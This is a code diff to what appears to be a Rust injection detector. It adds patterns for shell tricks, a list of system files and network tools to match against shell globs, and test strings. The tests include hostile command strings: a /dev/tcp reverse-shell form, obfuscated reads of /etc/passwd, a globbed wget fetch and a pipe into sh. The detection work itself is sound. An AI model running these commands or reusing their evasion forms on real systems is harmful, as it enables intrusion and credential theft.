@@ -122,7 +122,37 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
                 ),
                 (
                     "alias definition",
-                    r#"(?:^|[;&|`\n])\s*alias\s+(?:[-+][a-z]+\s+)*['"]?[\w-]+['"]?="#,
+                    r#"(?:^|[;&|`\n])\s*alias\s+(?:[-+][a-z]*\s+)*['"]?[\w.-]+['"]?="#,
+                ),
+                (
+                    // `gcc<<<'main(){}'`, `;irb<<<1+2`: bash's here-string,
+                    // after a command word (glued to it when nothing
+                    // separates it from the start: `scores <<< 3` is prose).
+                    "here string",
+                    r"[;&|`\n(]\s*[a-z][a-z0-9._+-]*\s*<<<|^\s*[a-z][a-z0-9._+-]*<<<",
+                ),
+                (
+                    // A value that opens a function definition, as
+                    // Shellshock's environment variables do: `() {`.
+                    "shellshock function",
+                    r"^\s*\(\s*\)\s*\{",
+                ),
+                (
+                    "pipe into a shell",
+                    r"\|\s*(?:/(?:usr/)?bin/)?(?:ba|z|da|k|c|tc)?sh\s*(?:$|[;&|#)])",
+                ),
+                (
+                    // `(sh)0>/dev/tcp/...`: a subshell whose input or output
+                    // is redirected.
+                    "redirected subshell",
+                    r"\(\s*(?:ba|z|da|k)?sh\s*\)\s*[0-9]*\s*[<>]",
+                ),
+                (
+                    // `vi x +silent\ !whoami +wq`: an editor started with a
+                    // command that escapes to the shell (in a form body the
+                    // `+` is a space).
+                    "editor shell escape",
+                    r"(?:^|[;&|`\n\s])(?:vim?|nvim|rvim|ex|view)\s+[^\s;&|]*\s*(?:\+\s*(?:silent!?\s*)?|silent!?\s*)!\s*[a-z/]",
                 ),
                 (
                     "variable run as a command",
@@ -183,7 +213,7 @@ static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
                 ),
                 (
                     "windows command",
-                    r"\bfor\s+/[fdlr]\b|\bfor\s+%%?[^\s%]{1,3}\s+in\s*\(|\bif\s*(?:/i\s*)?(?:not\s+)?(?:\x22[^\x22]{0,40}\x22|\S{1,40})\s*==\s*\S|\bif\s+(?:/i\s+)?(?:not\s+)?\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|\bif\s+\x22?%[^%\s]+%\x22?\s*(?:==|(?:gtr|lss|equ|neq|geq|leq)\b)|%comspec%|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-[a-z]",
+                    r"\bfor\s+/[fdlr]\b|\bfor\s+%%?[^\s%]{1,3}\s+in\s*\(|\bfor\s+%%?[a-z0-9_]{1,32}\s+in\s*\([^)]*\)\s*do\b|\bif\s*(?:/i\s*)?(?:not\s+)?(?:\x22[^\x22]{0,40}\x22|\S{1,40})\s*==\s*\S|\bif\s+(?:/i\s+)?(?:not\s+)?\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|\bif\s+\x22?%[^%\s]+%\x22?\s*(?:==|(?:gtr|lss|equ|neq|geq|leq)\b)|%comspec%|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-[a-z]",
                 ),
             ],
         ),
@@ -371,6 +401,64 @@ fn brace_command(lower: &str) -> bool {
     })
 }
 
+/// System files and programs a shell glob is written to reach without
+/// spelling them (`cat /et*/*wd`, `/e't'*/pa'?s'wd`, `/bi?/c[a]t`).
+const GLOB_TARGETS: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/group",
+    "/etc/hosts",
+    "/etc/sudoers",
+    "/etc/crontab",
+    "/etc/issue",
+    "/proc/self/environ",
+    "/proc/self/cmdline",
+    "/dev/tcp",
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/dash",
+    "/bin/busybox",
+    "/bin/cat",
+    "/bin/nc",
+    "/usr/bin/id",
+    "/usr/bin/nc",
+    "/usr/bin/curl",
+    "/usr/bin/wget",
+    "/usr/bin/python",
+    "/usr/bin/python3",
+    "/usr/bin/perl",
+    "/usr/bin/whoami",
+];
+
+/// An absolute path with glob characters (`*`, `?`, `[...]`, read as the
+/// shell reads them: never across a `/`) that names one of
+/// [`GLOB_TARGETS`]. `shell` is the value after shell quoting; a `+`
+/// splits words too (a query's space, encoded once too often). A glob with
+/// fewer than two literal letters (`/*/*`) is left to the `/???/` shapes:
+/// it names everything.
+fn glob_system_path(shell: &str) -> bool {
+    if !shell.contains(['*', '?', '[']) {
+        return false;
+    }
+    let opts = glob::MatchOptions {
+        case_sensitive: false,
+        require_literal_separator: true,
+        require_literal_leading_dot: true,
+    };
+    shell
+        .split(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    ';' | '&' | '|' | '<' | '>' | '(' | ')' | '=' | ',' | '`' | '+'
+                )
+        })
+        .filter(|w| w.starts_with('/') && w.contains(['*', '?', '[']))
+        .filter(|w| w.bytes().filter(u8::is_ascii_alphabetic).count() >= 2)
+        .filter_map(|w| glob::Pattern::new(w).ok())
+        .any(|p| GLOB_TARGETS.iter().any(|t| p.matches_with(t, opts)))
+}
+
 /// Every `(kind, shape)` pattern set the value matches. `prose` is a
 /// free-text value (words and spaces in a body or header): there a `../`
 /// is a sentence's, and only a system file's name counts as traversal.
@@ -404,6 +492,10 @@ pub fn detect(lower: &str, prose: bool) -> Vec<(Kind, &'static str)> {
         .chain(
             brace_command(&shell)
                 .then_some((Kind::InjectionCommand, "command made by brace expansion")),
+        )
+        .chain(
+            glob_system_path(&shell)
+                .then_some((Kind::InjectionCommand, "glob naming a system file")),
         )
         .collect()
 }
@@ -490,6 +582,18 @@ mod tests {
             ("$[2+2]", "injection_command"),
             ("${!ref}", "injection_command"),
             ("/bi[n]/bash", "injection_command"),
+            ("cat /et*/*wd", "injection_command"),
+            ("alias ..='cd ..'", "injection_command"),
+            ("alias +g + a=b", "injection_command"),
+            (";irb<<<1+2", "injection_command"),
+            ("() {", "injection_command"),
+            ("echo \"foo;whxam\"i | tr x o | sh #", "injection_command"),
+            ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", "injection_command"),
+            (";vi dddd +silent\\ \\!whoami +wq", "injection_command"),
+            ("for %variable in (set) do command", "injection_command"),
+            (";+cat+/e't'*/pa'?s'wd", "injection_command"),
+            ("cat /e\\t\\*/pa\\?s\\wd", "injection_command"),
+            ("/us?/b*/wge? http://x/a", "injection_command"),
             ("/[e///]tc", "injection_command"),
             ("bin/ansible", "injection_command"),
             ("x;usr/sbin/visudo -f a", "injection_command"),
@@ -505,6 +609,16 @@ mod tests {
             "a < b and c > d",
             "see you at 5:30; cat lovers welcome",
             "/api/v1/accounts/42",
+            "/api/*/users",
+            "() => {} is an arrow function",
+            "scores <<< 3 points >>>",
+            "pipe | shell",
+            "(sh) is short for shell",
+            "for loops in (python) do not need braces",
+            "alias: Bob",
+            "/*/*",
+            "rotate /var/log/*.log and /etc/*.conf",
+            "/static/img/icon-??.png",
             "version 1.2..3",
             "email@example.com",
             "I like <b>bold</b> text",
